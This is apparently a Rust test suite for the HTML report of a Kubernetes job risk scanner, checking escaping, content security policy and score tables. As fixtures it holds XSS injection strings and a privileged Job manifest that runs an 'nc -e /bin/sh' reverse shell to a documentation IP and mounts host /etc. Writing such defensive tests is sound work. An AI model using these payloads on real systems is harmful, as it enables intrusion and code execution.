//! The page: complete, closed in itself, and deaf to what stands in the manifests.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts, states,
};
use jobrisk::output::Format;
use proptest::prelude::*;

use crate::command::{ATTACK, BENIGN, Folder};
use crate::render::{job_with, render};

/// A tag by its name, with a slash before that of an end tag, and its attributes.
type Tag = (String, Vec<(String, String)>);

/// The tags of a page, as a browser's tokenizer sees them.
#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => {
                let end = if tag.kind == TagKind::EndTag { "/" } else { "" };
                let attributes: Vec<(String, String)> = tag
                    .attrs
                    .iter()
                    .map(|attribute| (attribute.name.local.to_string(), attribute.value.to_string()))
                    .collect();
                let starts = tag.kind == TagKind::StartTag;
                self.0.borrow_mut().push((format!("{end}{}", tag.name), attributes));
                match tag.name.as_ref() {
                    "script" if starts => TokenSinkResult::RawData(states::RawKind::ScriptData),
                    "style" if starts => TokenSinkResult::RawData(states::RawKind::Rawtext),
                    "title" if starts => TokenSinkResult::RawData(states::RawKind::Rcdata),
                    _ => TokenSinkResult::Continue,
                }
            }
            Token::ParseError(error) => panic!("{error}"),
            Token::CommentToken(comment) => panic!("a comment: {comment}"),
            _ => TokenSinkResult::Continue,
        }
    }
}

fn tags(html: &str) -> Vec<Tag> {
    let options = TokenizerOpts { exact_errors: true, ..TokenizerOpts::default() };
    let tokenizer = Tokenizer::new(Tags::default(), options);
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from(html));
    while let html5ever::TokenizerResult::Script(()) = tokenizer.feed(&queue) {}
    tokenizer.end();
    tokenizer.sink.0.take()
}

/// What a browser would do with the page: its tags, and those attributes that do more than say something.
fn structure(html: &str) -> Vec<String> {
    let says_something = ["title", "data-score", "data-findings"];
    tags(html)
        .into_iter()
        .map(|(name, attributes)| {
            let attributes = attributes.into_iter().map(|(name, value)| {
                if says_something.contains(&name.as_str()) { name } else { format!("{name}={value}") }
            });
            format!("{name} {}", attributes.collect::<Vec<_>>().join(" "))
        })
        .collect()
}

fn page(text: &str) -> String {
    render(Format::Html, text, format!("{}\n---\n\"{text}: [", job_with(text)).as_bytes())
}

#[test]
fn nothing_of_the_input_becomes_markup() {
    let harmless = structure(&page("harmless"));
    assert!(harmless.iter().any(|tag| tag.starts_with("mark")), "{harmless:?}");
    for hostile in [
        "</script><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "javascript:alert(1)",
        "</code></pre></td></table><style>*{display:none}</style>",
        "<!-- ]]> --> <![CDATA[ <?x?>",
        "&lt;b&gt; &#60;b&#62; &#x3c;",
        "{} {0} ${x} `x`",
        "\u{202e}\u{2066}\u{feff}\u{0}\u{1b}[2J\u{85}\u{2028}",
    ] {
        let html = page(hostile);
        for (seen, expected) in structure(&html).into_iter().zip(&harmless) {
            assert_eq!(seen, *expected, "{hostile}");
        }
        assert_eq!(structure(&html).len(), harmless.len(), "{hostile}");
        let is_direction = |character| matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!html.contains(
            |character: char| is_direction(character) || (character.is_control() && character != '\n')
        ));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn no_text_becomes_markup(text in "[<>\"'&/=!\\-a-z ;#x{}]{1,30}", file in any::<String>()) {
        // The page has as many tags whatever the names are; what is found may depend on them.
        let html = render(Format::Html, &file, job_with(&text).to_string().as_bytes());
        let known = ["script", "style", "title", "meta"];
        for name in known {
            let expected = if name == "meta" { 5 } else { 1 };
            prop_assert_eq!(tags(&html).iter().filter(|(tag, _)| tag == name).count(), expected, "{}", name);
        }
        for (tag, attributes) in tags(&html) {
            prop_assert!(!matches!(tag.as_str(), "img" | "iframe" | "object" | "embed" | "link" | "base" | "form"));
            for (name, value) in attributes {
                prop_assert!(!name.starts_with("on") && name != "style" && name != "src", "{} {}", tag, name);
                let is_ours = value.starts_with("https://attack.mitre.org/techniques/T") || value == "#errors";
                prop_assert!(name != "href" || is_ours, "{}", value);
            }
        }
    }
}

#[test]
fn the_page_is_closed_in_itself() {
    let html = page("x");
    let tags = tags(&html);
    let policy =
        tags.iter().flat_map(|(_, attributes)| attributes).find(|(name, _)| name == "content").unwrap();
    assert!(policy.1.starts_with("default-src 'none'; style-src 'sha256-"), "{policy:?}");
    // The hashes are those of what stands in the page, or it would have neither style nor script.
    for (element, directive) in [("style", "style-src"), ("script", "script-src")] {
        let (_, rest) = html.split_once(&format!("<{element}>")).unwrap();
        let (text, _) = rest.split_once(&format!("</{element}>")).unwrap();
        let hash = base64_sha256(text);
        assert!(policy.1.contains(&format!("{directive} 'sha256-{hash}'")), "{element}");
    }
    // Every element is closed, or one that HTML lets be left open.
    let left_open = ["meta", "html", "head", "body", "li", "p", "dt", "dd", "tr", "th", "td", "input"];
    let mut open: Vec<&str> = Vec::new();
    for (tag, _) in tags.iter().filter(|(tag, _)| !left_open.contains(&tag.trim_start_matches('/'))) {
        match tag.strip_prefix('/') {
            Some(name) => assert_eq!(open.pop(), Some(name)),
            None => open.push(tag),
        }
    }
    assert_eq!(open, Vec::<&str>::new());
}

fn base64_sha256(text: &str) -> String {
    use base64::Engine as _;
    use sha2::Digest as _;
    base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(text))
}

#[test]
fn the_page_tells_it_all() {
    let folder = Folder::with(&[("a.yaml", ATTACK), ("b.yaml", BENIGN), ("bad.yaml", "kind: [\n")]);
    let output = folder.scan(&["--format", "html", "-o", "page.html", "."]);
    assert_eq!((output.code, output.stdout.as_str()), (2, ""));
    let html = std::fs::read_to_string(folder.path("page.html")).unwrap();
    for text in [
        "<bdi>shop/shell</bdi>",
        "<bdi>report</bdi>",
        "<code>./a.yaml:1:1</code>",
        "<code>cmd-reverse-shell</code>",
        "<code>nc 192.0.2.10 4444 -e /bin/sh</code>",
        "<caption>How the score comes about</caption>",
        "https://attack.mitre.org/techniques/T1053/007/",
        "<td><code>./bad.yaml:1:7</code>",
    ] {
        assert!(html.contains(text), "{text}\n{html}");
    }
    let listed = folder.scan(&["--format", "html", "--min-severity", "high", "."]).stdout;
    assert!(!listed.contains("<bdi>report</bdi>") && listed.contains("Workloads below High are counted"));
}

#[test]
fn the_sum_can_be_redone() {
    let yaml = "kind: Job\nmetadata: {name: x}\nspec: {template: {spec: {containers: [{name: x, image: 'alpine',\n  \
                securityContext: {privileged: true}, command: [nc, -e, /bin/sh, 192.0.2.1, '1']}],\n  \
                volumes: [{name: v, hostPath: {path: /etc}}]}}}\n";
    let folder = Folder::with(&[("a.yaml", yaml)]);
    let explanation =
        folder.scan(&["--format", "json", "a.yaml"]).json()["workloads"][0]["explanation"].clone();
    let html = folder.scan(&["--format", "html", "a.yaml"]).stdout;
    let (_, sum) = html.split_once("<table class=sum>").unwrap();
    let (sum, verdict) = sum.split_once("</table>").unwrap();
    let score = |row: &str| {
        let (_, rest) =
            sum.split_once(&format!("<th scope=row>{row}<td>")).unwrap_or_else(|| panic!("{row}: {sum}"));
        let (_, rest) = rest.split_once("<td class=n>").unwrap();
        rest.split_once('<').unwrap().0.parse::<i64>().unwrap()
    };
    for (row, field) in [
        ("Host access", "host"),
        ("Command", "command"),
        ("Image", "image"),
        ("Combination", "combination"),
        ("Total", "total"),
    ] {
        assert_eq!(score(row), explanation[field].as_i64().unwrap(), "{row}: {sum}");
    }
    assert!(sum.contains("<span title=\"host-privileged\">35</span> + <span title=\"hostpath-"), "{sum}");
    for floor in explanation["floors"].as_array().unwrap() {
        assert!(verdict.contains(&format!("<code>{}</code>", floor.as_str().unwrap())), "{verdict}");
    }
}

#[test]
fn a_page_with_thousands_says_what_it_leaves_out() {
    let many = format!("{ATTACK}---\n").repeat(2_001);
    let html = Folder::with(&[("a.yaml", many.as_str())]).scan(&["--format", "html", "."]).stdout;
    assert_eq!(html.matches("<tbody data-index").count(), 2_001);
    assert_eq!(html.matches("<details>").count(), 2_000);
    assert!(html.contains("The findings of the 2000 worst of 2001 workloads are shown."));
}
